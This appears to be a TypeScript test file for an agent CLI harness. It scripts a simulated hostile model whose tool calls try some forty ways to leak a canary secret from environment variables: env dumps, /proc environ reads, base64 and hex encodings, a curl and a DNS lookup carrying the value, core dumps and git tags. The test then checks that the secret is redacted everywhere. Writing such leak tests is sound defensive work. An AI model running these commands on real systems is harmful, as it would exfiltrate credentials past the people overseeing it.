// A hostile model tries to get a runtime secret out, in some forty ways: it is in no request to the model, stream, conversation,
// artifact, pushed object, log or row.
import { call, replyWith } from "@agentcli/testkit";
import { expect, test } from "vitest";
import { base64, canary, forms, formsIn } from "./canary-forms.ts";
import { expectNowhere, openWithSecrets, pushedObjects } from "./canary-harness.ts";

const node = (script: string) => `node -e '${script}'`;

const commands = [
  'echo "$RUNTIME"',
  "env",
  "printenv RUNTIME",
  "set",
  "declare -p RUNTIME",
  "export -p",
  "set -x; : $RUNTIME",
  "bash -c env",
  'env -i X="$RUNTIME" env',
  "tr '\\0' '\\n' < /proc/self/environ",
  "cat /proc/*/environ",
  "strings -a /proc/self/environ; cat /proc/$PPID/environ",
  "cat /proc/*/cmdline",
  'printf %s "$RUNTIME" | base64',
  'printf x%s "$RUNTIME" | base64',
  'printf xx%s "$RUNTIME" | base64',
  'printf %s "$RUNTIME" | base64 | tr +/ -_',
  'printf %s "$RUNTIME" | base32',
  'printf %s "$RUNTIME" | od -An -v -tx1 -w200 | tr -d " "',
  'printf %s "$RUNTIME" | od -An -v -tx1 -w200',
  'printf %s "$RUNTIME" | od -An -v -tx1 -w200 | tr a-f A-F | tr -d " "',
  'printf %s "$RUNTIME" | od -An -v -tx1 -w200 | sed "s/ /\\\\\\\\x/g"',
  'printf %s "$RUNTIME" | od -An -v -tx1 -w200 | sed "s/ /%/g"',
  'printf %s "$RUNTIME" | rev',
  node("console.log(encodeURIComponent(process.env.RUNTIME))"),
  node("console.log(JSON.stringify({ it: process.env.RUNTIME }))"),
  node("console.log(JSON.stringify(JSON.stringify({ it: process.env.RUNTIME })))"),
  node("for (const one of process.env.RUNTIME) process.stdout.write(one)"),
  'printf %s "${RUNTIME:0:5}"; printf %s "${RUNTIME:5}"',
  'for ((at = 0; at < ${#RUNTIME}; at++)); do printf %s "${RUNTIME:at:1}"; done',
  'printf "%0.s-" {1..70000}; printf %s "$RUNTIME"; printf "%0.s-" {1..70000}',
  'printf %s "${RUNTIME:0:8}" >&2; printf %s "${RUNTIME:8}" >&2',
  'ls "/nowhere/$RUNTIME"',
  '"$RUNTIME"',
  'curl -sS "http://127.0.0.1:9/$RUNTIME"',
  'getent hosts "$RUNTIME.example.com" || echo "no host $RUNTIME"',
  'mkdir -p notes; touch "notes/${RUNTIME//\\//_}"; printf %s "$RUNTIME" > notes/plain.txt; ls notes; cat notes/plain.txt',
  'printf "title: %s\\n" "$RUNTIME" | tee notes/title.txt; printf "\\033]0;%s\\007" "$RUNTIME"',
  "ulimit -c unlimited; bash -c 'kill -SEGV $$'; cat core* 2> /dev/null",
  'exec -a "$RUNTIME" sleep 0; ps -ef',
  'git tag "x$(printf %s "$RUNTIME" | base64 | tr -d =+/)"; git tag',
];

const replies = [
  ...commands.map((cmd) => call("exec_command", { cmd })),
  call("exec_command", { cmd: 'printf %s "$RUNTIME"; cat', tty: true, yield_time_ms: 300 }),
  call("read_file", { path: "notes/plain.txt" }),
  call("grep_files", { pattern: "canary", path: "notes" }),
  call("list_dir", { path: "notes" }),
  replyWith(`The value is ${canary}, or ${base64(canary)}.`),
];

test("a secret is nowhere that a run writes, whatever the model lets its commands print", async () => {
  const harness = await openWithSecrets({ replies }, { RUNTIME: canary });
  const { client, fixture, requests } = harness;
  const url = await harness.repository("shop", { "a.txt": "of the shop" });
  const ids = await client.create({ prompt: { text: "go" }, repos: [{ url }] });
  // The notes, which have it, are files of the run: they stay in the workspace.
  expect(await client.waitForRun(ids)).toMatchObject({ status: "ERROR", error: { code: "secret_in_commit" } });
  expect(requests()).toHaveLength(replies.length);
  expect(await expectNowhere(harness, ids, forms)).toContain("[REDACTED]");
  const pushed = pushedObjects(fixture.platform.settings.dataDirectory);
  expect(pushed).toContain("of the shop");
  expect(formsIn(pushed)).toEqual([]);
});
